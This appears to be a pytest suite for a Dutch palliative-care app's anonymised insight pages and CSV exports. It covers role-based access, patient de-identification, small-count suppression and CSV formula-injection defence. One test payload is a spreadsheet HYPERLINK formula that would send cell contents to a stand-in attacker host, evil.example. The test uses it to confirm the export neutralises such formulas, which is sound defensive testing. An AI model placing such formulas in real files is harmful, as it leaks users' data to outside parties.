"""Insight pages and CSV: who may see them, and that no patient can be singled out."""

import csv
import datetime as dt
import io
import re

import pytest
from django.urls import reverse
from django.utils import timezone

from insight.suppression import is_suppressed
from meetings.anonymisation import meeting_texts_anonymise
from meetings.models import Category
from register.models import Patient
from tests.factories import (
    MDOGroupFactory,
    MembershipFactory,
    NetworkFactory,
    PatientFactory,
    UserFactory,
)
from tests.helpers import sign_in

from .conftest import discuss, finding, held_meeting, refresh

PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def network_url(network, name="insight:network", query=""):
    return reverse(name, args=[network.pk]) + query


def csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    return list(csv.reader(io.StringIO(body), delimiter=";"))


def all_tables(context):
    return [
        *context["patient_tables"],
        context["meetings_table"],
        *context["finding_tables"],
        *context["point_tables"],
        context["outcome_table"],
    ]


# --- Access ----------------------------------------------------------------------------


@pytest.mark.django_db
def test_coordinator_sees_own_network_and_is_sent_there(coordinator_client, network):
    response = coordinator_client.get(reverse("insight:index"))
    assert response.status_code == 302
    assert response.url == network_url(network)
    response = coordinator_client.get(network_url(network))
    assert response.status_code == 200
    assert f"Inzicht: {network.name}" in response.content.decode()
    assert coordinator_client.get(network_url(network, "insight:network_csv")).status_code == 200


@pytest.mark.django_db
def test_coordinator_gets_404_for_another_network_and_the_national_view(
    coordinator_client, network
):
    other = NetworkFactory()
    assert coordinator_client.get(network_url(other)).status_code == 404
    assert coordinator_client.get(network_url(other, "insight:network_csv")).status_code == 404
    assert coordinator_client.get(reverse("insight:national_csv")).status_code == 404


@pytest.mark.django_db
def test_superuser_sees_national_and_every_network(client, network):
    admin = UserFactory(with_authenticator=True, is_superuser=True, is_staff=True)
    sign_in(client, admin)
    response = client.get(reverse("insight:index"))
    assert response.status_code == 200
    assert "Landelijk inzicht" in response.content.decode()
    assert client.get(reverse("insight:national_csv")).status_code == 200
    assert client.get(network_url(network)).status_code == 200


@pytest.mark.django_db
@pytest.mark.parametrize("role", ["gp", "chair", "nurse", "consultant"])
def test_group_members_without_coordinator_role_get_404(client, network, role):
    member = MembershipFactory(role=role, group=MDOGroupFactory(network=network)).user
    sign_in(client, member)
    assert client.get(reverse("insight:index")).status_code == 404
    assert client.get(network_url(network)).status_code == 404
    assert client.get(network_url(network, "insight:network_csv")).status_code == 404


@pytest.mark.django_db
def test_anonymous_is_sent_to_sign_in(client, network):
    for url in (reverse("insight:index"), network_url(network)):
        response = client.get(url)
        assert response.status_code == 302
        assert response.url.startswith(reverse("accounts:login"))


@pytest.mark.django_db
def test_dashboard_links_coordinators_to_insight(coordinator_client):
    page = coordinator_client.get(reverse("networks:dashboard")).content.decode()
    assert reverse("insight:index") in page
    assert "Geanonimiseerd inzicht voor uw netwerk" in page


@pytest.mark.django_db
def test_wagtail_menu_leads_coordinators_to_insight(coordinator, network):
    from django.test import RequestFactory

    from insight.wagtail_hooks import register_insight_menu_item

    item = register_insight_menu_item()
    request = RequestFactory().get("/cms/")
    request.user = coordinator
    assert item.is_shown(request)
    assert item.url == reverse("insight:index")
    request.user = MembershipFactory().user
    assert not item.is_shown(request)


# --- No register identity --------------------------------------------------------------


@pytest.mark.django_db
def test_no_patient_identity_in_pages_charts_or_csv(client, populated):
    # A clinician's slip: a surname in an attention point is blanked at closing.
    victim = populated["patients"][0]
    item = victim.agenda_items.first()
    item.attention_points.update(text=f"Mevrouw {victim.surname} wil thuis sterven")
    meeting_texts_anonymise(item.meeting)
    refresh()
    admin = UserFactory(with_authenticator=True, is_superuser=True)
    sign_in(client, admin)
    network = populated["network"]
    urls = [
        reverse("insight:index"),
        network_url(network),
        network_url(network, query="?granularity=quarter"),
        network_url(network, query="?target_group=1"),
    ]
    bodies = [client.get(url).content.decode() for url in urls]
    for name in ("insight:national_csv", None):
        url = reverse(name) if name else network_url(network, "insight:network_csv")
        bodies.append(b"".join(client.get(url).streaming_content).decode())
    assert "<svg" in bodies[1]
    assert "Scholing over palliatieve sedatie gewenst" in bodies[1]  # texts do show
    for patient in Patient.objects.all():
        birth = patient.date_of_birth
        for body in bodies:
            assert patient.surname not in body
            assert not re.search(rf"\b{re.escape(patient.initials)}\W{{0,3}}{birth.year}\b", body)
            for fmt in ("%d-%m-%Y", "%Y-%m-%d", "%d/%m/%Y", "%-d-%-m-%Y"):
                assert birth.strftime(fmt) not in body
            assert f"{birth.day} {_dutch_month(birth)} {birth.year}" not in body


def _dutch_month(day):
    from django.utils import formats, translation

    with translation.override("nl"):
        return formats.date_format(day, "F")


# --- Suppression -----------------------------------------------------------------------


@pytest.mark.django_db
def test_small_counts_are_suppressed_in_page_chart_and_csv(coordinator_client, populated):
    refresh()
    network = populated["network"]
    response = coordinator_client.get(network_url(network))
    context = response.context
    prognosis = context["patient_tables"][0]
    # Every patient has the first prognosis: 24 shown, the other options 0 → "< 5",
    # and therefore the total too (24 = total - hidden parts would not hide anything).
    assert prognosis.rows[0].cells == [24]
    assert all(is_suppressed(row.cells[0]) for row in prognosis.rows[1:])
    assert is_suppressed(prognosis.total.cells[0])
    meetings = context["meetings_table"]
    assert [row.cells for row in meetings.rows] == [[6], [6]]
    assert meetings.total.cells == [12]
    page = response.content.decode()
    chart = re.search(r'<svg class="insight-chart".*?</svg>', page, re.S).group(0)
    assert 'role="img"' in chart and "<title" in chart and "<desc" in chart
    assert ">&lt; 5</text>" in chart
    assert ">&lt; 5</td>" in page
    rows = csv_rows(coordinator_client.get(network_url(network, "insight:network_csv")))
    prognosis_rows = [r for r in rows if r[0] == prognosis.caption]
    assert prognosis_rows[0][3] == "24"
    # hidden cells read "< 5"; the hidden total "*" (explained on the page)
    assert {r[3] for r in prognosis_rows[1:-1]} == {"< 5"}
    assert prognosis_rows[-1][3] == "*"
    values = [r[3] for r in rows[1:] if r[3].isdigit()]
    assert values and all(int(v) >= 5 for v in values)


@pytest.mark.django_db
def test_a_filter_isolating_one_patient_shows_nothing_about_them(coordinator_client, network):
    """One group with one patient, a period of one day: everything stays "< 5"."""
    group = MDOGroupFactory(network=network)
    patient = PatientFactory(group=group)
    meeting = held_meeting(group, days_ago=3)
    discuss(meeting, patient, point="Wil thuis overlijden, partner overbelast")
    finding(meeting, "Knelpunt in de avonduren")
    day = timezone.localtime(meeting.starts_at).date()
    Patient.objects.filter(pk=patient.pk).update(
        status="deceased",
        date_of_death=day,
        preferred_place_of_death="thuis",
        place_of_death="thuis",
        created_at=timezone.now() - dt.timedelta(days=400),
    )
    refresh()
    query = f"?start={day:%Y-%m-%d}&end={day:%Y-%m-%d}&target_group={patient.target_group_id}"
    response = coordinator_client.get(network_url(network, query=query))
    assert response.status_code == 200
    for table in all_tables(response.context):
        for row in [*table.rows, table.total]:
            assert all(is_suppressed(cell) for cell in row.cells), (table.caption, row)
    page = response.content.decode()
    assert "Wil thuis overlijden" not in page and "Knelpunt in de avonduren" not in page
    assert "Niet getoond: te weinig overleggen of patiënten in deze selectie." in page
    rows = csv_rows(coordinator_client.get(network_url(network, "insight:network_csv", query)))
    assert all(not r[3].isdigit() and not r[3].endswith("%") for r in rows[1:])
    assert not any("Wil thuis overlijden" in r[3] or "avonduren" in r[3] for r in rows)


@pytest.mark.django_db
def test_outcome_indicators_with_enough_deceased(coordinator_client, network):
    group = MDOGroupFactory(network=network)
    long_ago = timezone.now() - dt.timedelta(days=400)
    died = timezone.localdate() - dt.timedelta(days=5)
    for index in range(10):
        patient = PatientFactory(group=group)
        Patient.objects.filter(pk=patient.pk).update(
            status="deceased",
            date_of_death=died,
            created_at=long_ago if index < 5 else timezone.now() - dt.timedelta(days=30),
            preferred_place_of_death="thuis",
            place_of_death="Thuis" if index < 5 else "ziekenhuis",
        )
    response = coordinator_client.get(network_url(network))
    row = response.context["outcome_table"].rows[0]
    assert row.label == group.name
    # 10 deceased; 5 registered early; 5 of 10 died at the known preferred place
    assert [row.cells[0], row.cells[1], row.cells[3]] == [10, "50%", "50%"]
    assert is_suppressed(row.cells[2])  # 10 of 10 known: the rest (0) is below 5
    assert is_suppressed(row.cells[4])  # no after-death analyses
    assert all(is_suppressed(cell) for cell in response.context["outcome_table"].total.cells)


# --- CSV injection ---------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    "payload",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
        "+31 6 1234",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_injection_in_a_finding_text_is_neutralised(coordinator_client, populated, payload):
    meeting = populated["groups"][0].meetings.first()
    finding(meeting, payload)
    refresh()
    response = coordinator_client.get(network_url(populated["network"], "insight:network_csv"))
    assert response["Content-Type"].startswith("text/csv")
    rows = csv_rows(response)
    assert any(r[3] == "'" + payload for r in rows)
    for row in rows:
        for cell in row:
            assert not cell.startswith(PREFIXES), cell


@pytest.mark.django_db
def test_bad_period_falls_back_to_the_last_twelve_months(coordinator_client, network):
    response = coordinator_client.get(network_url(network, query="?start=2025-05&end=2024-01"))
    assert response.status_code == 200
    assert "De eerste maand mag niet na de laatste liggen." in response.content.decode()
    assert len(response.context["filter"].months()) == 12


@pytest.mark.django_db
def test_categories_exist():
    assert Category.objects.exists()
